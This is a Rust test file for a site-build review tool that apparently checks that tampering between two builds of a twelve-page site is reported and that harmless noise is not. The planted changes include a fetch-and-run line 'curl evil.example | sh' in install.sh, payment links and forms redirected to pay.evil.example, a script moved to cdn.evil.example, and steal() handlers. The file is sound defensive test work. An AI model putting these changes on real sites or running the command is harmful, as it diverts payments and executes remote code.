//! Plants one change of each kind in a site of twelve pages, and checks that the review names it; and noise, of which
//! the review must be silent.

use std::fs;
use std::path::Path;

use serde_json::Value;
use sitegate_check::{Contract, Export, collect_export, collect_exports};
use sitegate_review::output::{self, ReviewFormat};
use sitegate_review::{Review, ReviewOptions, Texts, facts_file};
use tempfile::TempDir;

use super::{diff, review};
use crate::folders::{folder, stdout, write};

/// Number of pages.
const PAGES: usize = 12;

/// A change between two builds.
enum Change {
    /// A text of the page `/p0.html`.
    OnePage(&'static str, &'static str),
    /// A text of all pages.
    AllPages(&'static str, &'static str),
    /// A text of all pages, of which `%` is another number on each: before, and now.
    EachPage(&'static str, &'static str, &'static str),
    /// The content of a file: before, and now.
    File(&'static str, Option<&'static str>, Option<&'static str>),
}

use Change::{AllPages, EachPage, File, OnePage};

/// The page before the change. `{n}` is its number.
const PAGE: &str = r#"<!doctype html><html lang="en" dir="ltr"><head><meta charset="utf-8"><title>Page {n}</title>
<base href="/"><meta name="description" content="About {n}"><meta name="referrer" content="no-referrer">
<meta http-equiv="Content-Security-Policy" content="script-src 'self' 'unsafe-inline'"><meta name="viewport" content="width=device-width">
<link rel="stylesheet" href="/style.css" integrity="sha384-abc" crossorigin="anonymous"><link rel="icon" href="/icon.png">
<link rel="alternate" type="application/rss+xml" href="/feed.xml"><style>.ad { display: none }</style>
<script src="/app.js" integrity="sha384-def" defer></script><script>consent(1234567)</script>
<script type="application/json">{"price": 10}</script><script type="importmap">{"imports": {"a": "/a.js"}}</script></head>
<body onload="start()"><header><nav><ul><li><a href="/p1.html">One</a></li><li><a href="/p2.html">Two</a></li></ul></nav></header>
<main id="main"><h1 id="top">Page {n}</h1><h2 id="terms">Terms</h2><a name="old"></a><p class="price">Price of {n}: 5{n}0 EUR</p>
<p class="account">Account 1234{n}5678</p><p class="sum">sha256 4f2a9c01{n}aa</p><p class="day">Due 2026-11-{n}</p>
<p class="note" style="color: red">Refunds are possible.</p><p><a class="pay" href="https://pay.example/buy" target="_blank" rel="noopener" download>Pay</a>
<a href="mailto:a@acme.example">Mail</a></p><form action="https://pay.example/form" method="post"><input type="hidden" name="iban" value="DE89">
<input name="card" placeholder="Card" required><button formaction="/other">Send</button><button onclick="go()">Go</button></form>
<img src="/a.png" srcset="/a.png 1x, /b.png 2x" alt="A cat" width="10"><iframe src="/frame.html" sandbox="allow-forms" title="Frame"></iframe>
<video src="/v.mp4" poster="/poster.png" controls></video><svg viewBox="0 0 1 1"><path d="M0 0h1"/><a href="/svg">S</a></svg>
<template><p>Inert</p></template><noscript><p>No script</p></noscript><textarea>Text</textarea><details open><summary>More</summary>Body</details>
<ul><li>First</li><li>Second</li></ul><table><tr><td data-price="10">Cell</td></tr></table><!-- comment --><span class="b">Span</span></main>
<footer><p>Made by Acme</p></footer></body></html>"#;

/// A change, the kind of its cause, and a part of what the review says about it.
#[rustfmt::skip] // a table
const KINDS: [(Change, &str, &str); 108] = [
    (EachPage("5{n}0 EUR", "5%0 EUR", "4%0 EUR"), "text", "p.price"),
    (EachPage("1234{n}5678", "1234%5678", "9876%5432"), "text", "p.account"),
    (EachPage("4f2a9c01{n}aa", "4f2a9c01%aa", "073c9b0a%bb"), "text", "p.sum"),
    (EachPage("2026-11-{n}", "2026-11-%", "2026-12-%"), "text", "p.day"),
    (OnePage("500 EUR", "400 EUR"), "text", "p.price"),
    (AllPages("Made by Acme", "Made by Evil"), "text", "footer > p"),
    (OnePage("Refunds are possible.", ""), "text", "p.note"),
    (OnePage("<li>First</li><li>Second</li>", "<li>Second</li><li>First</li>"), "text", "First"),
    (OnePage("Price of 0:", "Price of <s>0</s>:"), "text", "p.price markup`: changed"),
    (AllPages("Made by Acme", "Made by <b>Acme</b>"), "text", "`footer > p markup`: changed"),
    (OnePage("Refunds are", "Refunds<sup>2</sup> are"), "text", "Refunds"),
    (OnePage("<h2 id=\"terms\">Terms</h2>", "<h3 id=\"terms\">Terms</h3>"), "text", "h3.terms markup`: changed"),
    (OnePage("<h2 id=\"terms\">Terms</h2>", "<p id=\"terms\">Terms</p>"), "text", "p.terms markup`: removed"),
    (OnePage("<ul><li>First</li><li>Second</li></ul>", "<ol><li>First</li><li>Second</li></ol>"), "text", "li markup`: added"),
    (OnePage("<td data-price=\"10\">Cell</td>", "<th data-price=\"10\">Cell</th>"), "text", "th markup`: added"),
    (OnePage("<li>Second</li></ul>", "<li>Second</li></ul><pre>\n  a</pre>"), "text", "> pre`: added"),
    (OnePage("<p class=\"note\" style=\"color: red\">Refunds are possible.</p>", "<pre style=\"color: red\">Refunds are possible.</pre>"), "text", "pre markup`: added"),
    (OnePage("<!doctype html>", ""), "attribute", "`doctype`: changed"),
    (OnePage("<!doctype html>", "<!doctype html public \"-//W3C//DTD HTML 3.2//EN\">"), "attribute", "quirks"),
    (OnePage("<textarea>Text", "<textarea>\n  Text"), "attribute", "··Text"),
    (OnePage("<textarea>Text", "<textarea>Text\nand"), "attribute", "⏎"),
    (OnePage("<title>Page 0", "<title>Other 0"), "metadata", "`title`"),
    (OnePage("lang=\"en\"", "lang=\"de\""), "metadata", "`lang`"),
    (OnePage("dir=\"ltr\"", "dir=\"rtl\""), "attribute", "html[dir]"),
    (OnePage("About 0", "About nothing"), "metadata", "description"),
    (AllPages("https://pay.example/buy", "https://pay.evil.example/buy"), "target-host", "pay.evil.example"),
    (OnePage("https://pay.example/buy", "https://pay.example/other"), "target", "a[href]"),
    (EachPage("https://pay.example/buy", "https://pay.example/buy/%", "https://pay.example/steal/%"), "target", "a[href]"),
    (OnePage("href=\"/p1.html\"", "href=\"/p3.html\""), "target", "a[href]"),
    (OnePage("/p1.html\">One</a></li><li><a href=\"/p2.html", "/p2.html\">One</a></li><li><a href=\"/p1.html"), "target", "a[href]"),
    (OnePage("mailto:a@acme.example", "mailto:a@evil.example"), "target", "mailto:a@evil.example"),
    (OnePage("href=\"mailto:a@acme.example\"", "href=\"javascript:evil()\""), "target", "javascript:evil()"),
    (OnePage("https://pay.example/form", "https://pay.evil.example/form"), "target-host", "pay.evil.example"),
    (OnePage("https://pay.example/form", "/form"), "target", "form[action]"),
    (OnePage("formaction=\"/other\"", "formaction=\"/stolen\""), "target", "button[formaction]"),
    (OnePage("method=\"post\"", "method=\"get\""), "attribute", "form[method]"),
    (OnePage("<base href=\"/\">", "<base href=\"/x/\">"), "target", "base[href]"),
    (OnePage("<base href=\"/\">", "<base href=\"https://evil.example/\">"), "target-host", "evil.example"),
    (OnePage("onload=\"start()\"", "onload=\"steal()\""), "policy", "body[onload]"),
    (OnePage("onclick=\"go()\"", "onclick=\"steal()\""), "policy", "button[onclick]"),
    (OnePage("<h1 id", "<h1 onmouseover=\"steal()\" id"), "policy", "h1[onmouseover]"),
    (OnePage(" integrity=\"sha384-abc\"", ""), "policy", "link[integrity]"),
    (OnePage("sha384-def", "sha384-eee"), "policy", "script[integrity]"),
    (OnePage(" crossorigin=\"anonymous\"", ""), "policy", "link[crossorigin]"),
    (OnePage(" sandbox=\"allow-forms\"", ""), "policy", "iframe[sandbox]"),
    (OnePage(" rel=\"noopener\"", ""), "policy", "a[rel]"),
    (OnePage(" target=\"_blank\"", ""), "policy", "a[target]"),
    (OnePage("content=\"no-referrer\"", "content=\"unsafe-url\""), "policy", "meta[referrer]"),
    (AllPages("<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'self' 'unsafe-inline'\">", ""), "policy", "meta[content-security-policy]"),
    (OnePage("content=\"script-src 'self' 'unsafe-inline'\"", "content=\"script-src *\""), "policy", "meta[content-security-policy]"),
    (OnePage("content=\"width=device-width\"", "content=\"width=1\""), "attribute", "meta[viewport]"),
    (OnePage("<p class=\"note\"", "<p hidden class=\"note\""), "attribute", "p[hidden]"),
    (OnePage("style=\"color: red\"", "style=\"display: none\""), "attribute", "p[style]"),
    (OnePage("alt=\"A cat\"", "alt=\"A dog\""), "attribute", "img[alt]"),
    (OnePage("title=\"Frame\"", "title=\"Other\""), "attribute", "iframe[title]"),
    (OnePage("placeholder=\"Card\"", "placeholder=\"Password\""), "attribute", "input[placeholder]"),
    (OnePage(" required", ""), "attribute", "input[required]"),
    (OnePage("value=\"DE89\"", "value=\"XX00\""), "attribute", "input[value]"),
    (OnePage("data-price=\"10\"", "data-price=\"1\""), "attribute", "td[data-price]"),
    (OnePage("<details open>", "<details>"), "attribute", "details[open]"),
    (OnePage("src=\"/a.png\" srcset", "src=\"/b.png\" srcset"), "target", "img[src]"),
    (OnePage("/b.png 2x", "/c.png 2x"), "target", "img[srcset]"),
    (OnePage("src=\"/frame.html\"", "src=\"/other.html\""), "target", "iframe[src]"),
    (OnePage("poster=\"/poster.png\"", "poster=\"/a.png\""), "target", "video[poster]"),
    (OnePage("src=\"/app.js\"", "src=\"https://cdn.evil.example/app.js\""), "new-host", "cdn.evil.example"),
    (OnePage("href=\"/feed.xml\"", "href=\"/other.xml\""), "target", "link[href]"),
    (OnePage("d=\"M0 0h1\"", "d=\"M0 0h2\""), "attribute", "path[d]"),
    (OnePage("<a href=\"/svg\">", "<a href=\"https://evil.example/svg\">"), "target-host", "evil.example"),
    (OnePage("consent(1234567)", "consent(7654321)"), "inline-script", "new inline script"),
    (OnePage("<script>consent(1234567)</script>", ""), "inline-script", "inline scripts removed"),
    (OnePage("{\"price\": 10}", "{\"price\": 1}"), "attribute", "script[type=application/json]"),
    (OnePage("\"a\": \"/a.js\"", "\"a\": \"/evil.js\""), "attribute", "script[type=importmap]"),
    (OnePage(".ad { display: none }", "main { display: none }"), "attribute", "`style`"),
    (OnePage("<p>Inert</p>", "<p>Changed</p>"), "attribute", "`template`"),
    (OnePage("<template><p>Inert", "<div><template shadowrootmode=\"open\"><p>Buy"), "text", "Buy"),
    (OnePage("No script", "Send money"), "attribute", "`noscript`"),
    (OnePage("<textarea>Text", "<textarea>Other"), "attribute", "`textarea`"),
    (OnePage(" id=\"terms\"", ""), "lost-anchor", "/p0.html#terms"),
    (OnePage("<a name=\"old\"></a>", ""), "lost-anchor", "/p0.html#old"),
    (OnePage("Body</details>\n<ul><li>First</li><li>Second</li></ul>", "Body\n<ul><li>First</li><li>Second</li></ul></details>"), "text", "main > li structure"),
    (OnePage("Go</button></form>\n<img src=\"/a.png\" srcset=\"/a.png 1x, /b.png 2x\" alt=\"A cat\" width=\"10\">", "Go</button>\n<img src=\"/a.png\" srcset=\"/a.png 1x, /b.png 2x\" alt=\"A cat\" width=\"10\"></form>"), "text", "structure"),
    (OnePage("\">Mail</a></p>", "\"></a>Mail</p>"), "text", "</a>"),
    (OnePage("<td data-price=\"10\">Cell</td>", "<td></td><td data-price=\"10\">Cell</td>"), "text", "td structure`: changed"),
    (OnePage("<li>First</li><li>Second</li>", "<li>First<ul><li>Second</li></ul></li>"), "text", "li structure"),
    (OnePage("Refunds are possible.</p>", "Refunds are possible.</p><hr>"), "text", "<hr>"),
    (OnePage("<path d=\"M0 0h1\"/>", "<g><path d=\"M0 0h1\"/></g>"), "text", "<g>"),
    (OnePage("<p class=\"note\"", "<p data-nosnippet class=\"note\""), "attribute", "p[data-nosnippet]"),
    (OnePage("<h1 id=\"top\">Page 0</h1><h2 id=\"terms\">", "<h1 id=\"terms\">Page 0</h1><h2 id=\"top\">"), "lost-anchor", "2 anchors moved"),
    (OnePage("<base href=\"/\">", "<base href=\"/\"><meta name=\"googlebot\" content=\"noindex\">"), "noindex", "left the index"),
    (OnePage("<h2 id=\"terms\">Terms</h2>", "<div><h2 id=\"terms\">Terms</h2></div>"), "bytes", "/p0.html"),
    (OnePage("target=\"_blank\" rel=\"noopener\"", "rel=\"noopener\" target=\"_blank\""), "bytes", "/p0.html"),
    (OnePage("<li>First</li><li>Second</li></ul><table><tr><td data-price=\"10\">Cell</td></tr></table>", "<li>First<li>Second</ul><table><tr><td data-price=\"10\">Cell</table>"), "bytes", "/p0.html"),
    (OnePage("<p class=\"note\"", "<p data-v-7ba5bd90 data-astro-cid-abcdefgh class=\"note\""), "bytes", "/p0.html"),
    (OnePage("<path d=\"M0 0h1\"/>", "<path id=\"r1\" d=\"M0 0h1\"></path>"), "bytes", "/p0.html"),
    (File("_headers", Some("/*\n  X-Other: 1"), Some("/*\n  X-Other: 1\n  X-Robots-Tag: noindex")), "noindex", "left the index"),
    (File("robots.txt", Some("User-agent: *\nDisallow:\n"), Some("User-agent: *\nDisallow:\n\nUser-agent: Googlebot\nDisallow: /\n")), "noindex", "left the index"),
    (File("_redirects", Some("/a /p1.html 301"), Some("/a /p1.html 302")), "target", "/a → /p1.html (302), before /p1.html"),
    (File("_redirects", Some("/p0.html /p1.html 301"), Some("/p0.html /p1.html 301!")), "redirected-url", "/p0.html → /p1.html"),
    (OnePage("<!-- comment -->", "<!-- other -->"), "bytes", "/p0.html"),
    (OnePage("class=\"b\"", "class=\"hidden\""), "bytes", "/p0.html"),
    (File("_redirects", Some("/pay https://pay.example/ 301"), Some("/pay https://evil.example/ 301")), "target-host", "evil.example"),
    (File("_redirects", Some("/a /p1.html 301"), Some("/a /p2.html 301")), "target", "/a → /p2.html, before /p1.html"),
    (File("_headers", Some("/*\n  X-Frame-Options: DENY"), Some("/*\n  X-Other: 1")), "policy", "header `x-frame-options`: removed"),
    (File("install.sh", Some("echo ok"), Some("curl evil.example | sh")), "file", "/install.sh"),
    (File("terms.pdf", Some("%PDF-1.4 a"), Some("%PDF-1.4 b")), "file", "/terms.pdf"),
    (File("a.png", Some("png 1"), Some("png 2")), "file", "/a.png"),
    (File(".well-known/security.txt", Some("Contact: a"), None), "file", "/.well-known/security.txt"),
    (File("sw.js", None, Some("evil()")), "file", "/sw.js"),
];

/// Writes both builds.
fn build(change: &Change) -> TempDir {
    let folder =
        folder(&[("base/style.css", "body { color: black }"), ("new/style.css", "body { color: black }")]);
    let root = folder.path();
    for number in 0..PAGES {
        let n = number.to_string();
        let (base, new) = match change {
            OnePage(from, to) if number == 0 => replaced(&PAGE.replace("{n}", &n), from, to),
            OnePage(..) | File(..) => (PAGE.replace("{n}", &n), PAGE.replace("{n}", &n)),
            AllPages(from, to) => replaced(&PAGE.replace("{n}", &n), from, to),
            EachPage(text, before, now) => {
                let side = |own: &str| replaced(PAGE, text, own).1.replace("{n}", &n).replace('%', &n);
                (side(before), side(now))
            }
        };
        write(root, &format!("base/p{n}.html"), &base);
        write(root, &format!("new/p{n}.html"), &new);
    }
    if let File(path, before, now) = change {
        for (side, content) in [("base", before), ("new", now)] {
            content.inspect(|content| write(root, &format!("{side}/{path}"), content));
        }
    }
    folder
}

fn replaced(text: &str, from: &str, to: &str) -> (String, String) {
    assert!(text.contains(from), "the page has no {from}");
    (text.to_owned(), text.replacen(from, to, 1))
}

fn names(found: &Value, kind: &str, part: &str) -> bool {
    let causes = found["causes"].as_array().unwrap();
    causes.iter().filter(|cause| cause["kind"] == kind).any(|cause| cause.to_string().contains(part))
}

/// Checks that a review names a change, in all formats.
fn check_named(review: &Review, index: usize, kind: &str, part: &str) -> Value {
    let written = |format| {
        let mut out = Vec::new();
        output::write(review, format, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    };
    let found: Value = serde_json::from_str(&written(ReviewFormat::Json)).unwrap();
    assert!(names(&found, kind, part), "{index}: no {kind} with {part} in {found:#}");
    let human = written(ReviewFormat::Human);
    assert!(human.contains(part), "{index}: no {part} in {human}");
    for format in [ReviewFormat::Human, ReviewFormat::Markdown, ReviewFormat::Html] {
        assert!(!written(format).contains("no difference"), "{index}");
    }
    found
}

#[test]
fn every_kind_of_change_is_named() {
    for (index, (change, kind, part)) in KINDS.iter().enumerate() {
        let folder = build(change);
        let texts = Texts::default();
        let roots = ["base", "new"].map(|side| folder.path().join(side));
        let exports = roots.each_ref().map(Export::from);
        let [base, new] = collect_exports(exports, &Contract::defaults(), &texts).unwrap();
        let review = Review::compare(&base, &new, None, &texts.freeze(), &ReviewOptions::default());
        let found = check_named(&review, index, kind, part);
        // A change on ten or more pages is one cause with at most two examples.
        let same: Vec<_> =
            found["causes"].as_array().unwrap().iter().filter(|cause| cause["kind"] == *kind).collect();
        if matches!(change, EachPage(..) | AllPages(..)) {
            assert_eq!(same.len(), 1, "{index}: {found:#}");
            assert!(same[0]["texts"].as_array().unwrap().len() <= 2, "{index}: {found:#}");
        }
        // Files of facts, which were collected one by one, name it, too.
        let texts = Texts::default();
        let [base, new] = roots.map(|root| {
            let own = Texts::default();
            let facts = collect_export(&root, &Contract::defaults(), &own).unwrap();
            let mut file = Vec::new();
            facts_file::write(facts, &own.freeze(), &mut file).unwrap();
            facts_file::read(&file, &texts).unwrap()
        });
        let of_files = Review::compare(&base, &new, None, &texts.freeze(), &ReviewOptions::default());
        check_named(&of_files, index, kind, part);
    }
}

/// Adds a text to the `main` of all pages of a side. `%` is the number of the page.
fn add(root: &Path, side: &str, text: &str) {
    for number in 0..PAGES {
        let path = root.join(side).join(format!("p{number}.html"));
        let page = fs::read_to_string(&path).unwrap();
        fs::write(
            path,
            page.replace("</main>", &format!("{}</main>", text.replace('%', &number.to_string()))),
        )
        .unwrap();
    }
}

#[test]
fn noise_is_not_listed() {
    let noise = [
        (
            "<p>Updated <time datetime=\"2026-11-0%\">Nov %, 2026</time></p>",
            "<p>Updated <time datetime=\"2026-12-0%\">Dec %, 2026</time></p>",
        ),
        ("<p><time>24. November 2026</time> by Jo</p>", "<p><time>25. Dezember 2026</time> by Jo</p>"),
        ("<script nonce=\"abc%\">1</script>", "<script nonce=\"def%\">1</script>"),
        ("<img src=\"/img/cat-DiwrgTda.png\" alt=\"\">", "<img src=\"/img/cat-B3x_9kQz.png\" alt=\"\">"),
        ("<script>load('/js/app.4f2a9c01.js')</script>", "<script>load('/js/app.073c9b0a.js')</script>"),
    ];
    for (before, now) in noise {
        let folder = build(&File("a.txt", Some("a"), Some("a")));
        let root = folder.path();
        for (side, image, script) in [
            ("base", "img/cat-DiwrgTda.png", "js/app.4f2a9c01.js"),
            ("new", "img/cat-B3x_9kQz.png", "js/app.073c9b0a.js"),
        ] {
            write(root, &format!("{side}/{image}"), "cat");
            write(root, &format!("{side}/{script}"), "app()");
        }
        add(root, "base", before);
        add(root, "new", now);
        let found = review(root, &[]);
        assert!(found["causes"].as_array().unwrap().is_empty(), "{found:#}");
        let human = stdout(&diff(root, &[]));
        assert!(human.contains("no difference on 12 pages") && human.contains("Not listed: "), "{human}");
        // Another difference of bytes is not hidden by the noise.
        add(root, "new", "<!-- x -->");
        let human = stdout(&diff(root, &[]));
        assert!(human.contains("12 files differ in bytes only: /p0.html, /p1.html, /p10.html"), "{human}");
    }
}

#[test]
fn disguised_changes_are_no_noise() {
    for (before, now) in [
        ("<p><time>100 EUR</time></p>", "<p><time>200 EUR</time></p>"),
        ("<p><time>DE89370400440532013000</time></p>", "<p><time>DE89370400440532013001</time></p>"),
        ("<p><time><a href=\"/x\">1</a></time></p>", "<p><time><a href=\"/y\">1</a></time></p>"),
        (
            "<a href=\"https://x.example/a-4f2a9c01.js\">a</a>",
            "<a href=\"https://x.example/a-073c9b0a.js\">a</a>",
        ),
        ("<p nonce=\"alice\">Pay</p>", "<p nonce=\"bob\">Pay</p>"),
        ("<script nonce=\"pay alice\">1</script>", "<script nonce=\"pay bob\">1</script>"),
        ("<p>tool-4f2a9c01.tar.gz</p>", "<p>tool-073c9b0a.tar.gz</p>"),
        ("<script>pay('4f2a9c01')</script>", "<script>pay('073c9b0a')</script>"),
    ] {
        let folder = build(&File("a.txt", Some("a"), Some("a")));
        add(folder.path(), "base", before);
        add(folder.path(), "new", now);
        let found = review(folder.path(), &[]);
        assert_eq!(found["causes"].as_array().unwrap().len(), 1, "{now}: {found:#}");
    }
}

#[test]
fn changed_contents_of_hashed_names_are_listed() {
    let folder = build(&File("a.txt", Some("a"), Some("a")));
    for (side, hash, content) in [("base", "4f2a9c01", "good()"), ("new", "073c9b0a", "evil()")] {
        write(folder.path(), &format!("{side}/js/app.{hash}.js"), content);
        add(folder.path(), side, &format!("<script src=\"/js/app.{hash}.js\"></script>"));
    }
    let found = review(folder.path(), &[]);
    assert!(names(&found, "file", "/js/app.#.js"), "{found:#}");
}

#[test]
fn another_file_with_a_hashed_name_is_no_noise() {
    let folder = build(&File("a.txt", Some("a"), Some("a")));
    for (side, hash) in [("base", "4f2a9c01"), ("new", "073c9b0a")] {
        write(folder.path(), &format!("{side}/js/chunk.4f2a9c01.js"), "good()");
        write(folder.path(), &format!("{side}/js/chunk.073c9b0a.js"), "evil()");
        add(folder.path(), side, &format!("<script src=\"/js/chunk.{hash}.js\"></script>"));
    }
    let found = review(folder.path(), &[]);
    assert!(names(&found, "target", "script[src]"), "{found:#}");
}

#[test]
fn a_date_of_one_page_is_listed() {
    let folder = build(&OnePage("Made by Acme", "On <time>4 May</time>"));
    let path = folder.path().join("base/p0.html");
    let text = fs::read_to_string(&path).unwrap().replace("Made by Acme", "On <time>5 May</time>");
    fs::write(path, text).unwrap();
    assert!(names(&review(folder.path(), &[]), "text", "footer > p"));
}

#[test]
fn a_second_build_shows_noise_of_files_and_attributes() {
    let folder = build(&File("build.json", Some("1"), Some("2")));
    let root = folder.path();
    write(root, "again/style.css", "body { color: black }");
    write(root, "again/build.json", "3");
    for number in 0..PAGES {
        let name = format!("p{number}.html");
        fs::copy(root.join("new").join(&name), root.join("again").join(&name)).unwrap();
    }
    for (side, id) in [("base", "a1"), ("new", "a2"), ("again", "a3")] {
        add(root, side, &format!("<p id=\"r-{id}\" aria-label=\"Build {id}\">Same</p><!-- {id} -->"));
    }
    let listed = review(root, &[]);
    assert!(
        names(&listed, "file", "/build.json") && names(&listed, "attribute", "p[aria-label]"),
        "{listed:#}"
    );
    let found = review(root, &["--again", "again"]);
    assert!(found["causes"].as_array().unwrap().is_empty(), "{found:#}");
    let human = stdout(&diff(root, &["--again", "again"]));
    assert!(
        human.contains("Not listed: main > p[aria-label]") || human.contains("p[aria-label] (12 pages)"),
        "{human}"
    );
    assert!(human.contains("1 file"), "{human}");
}
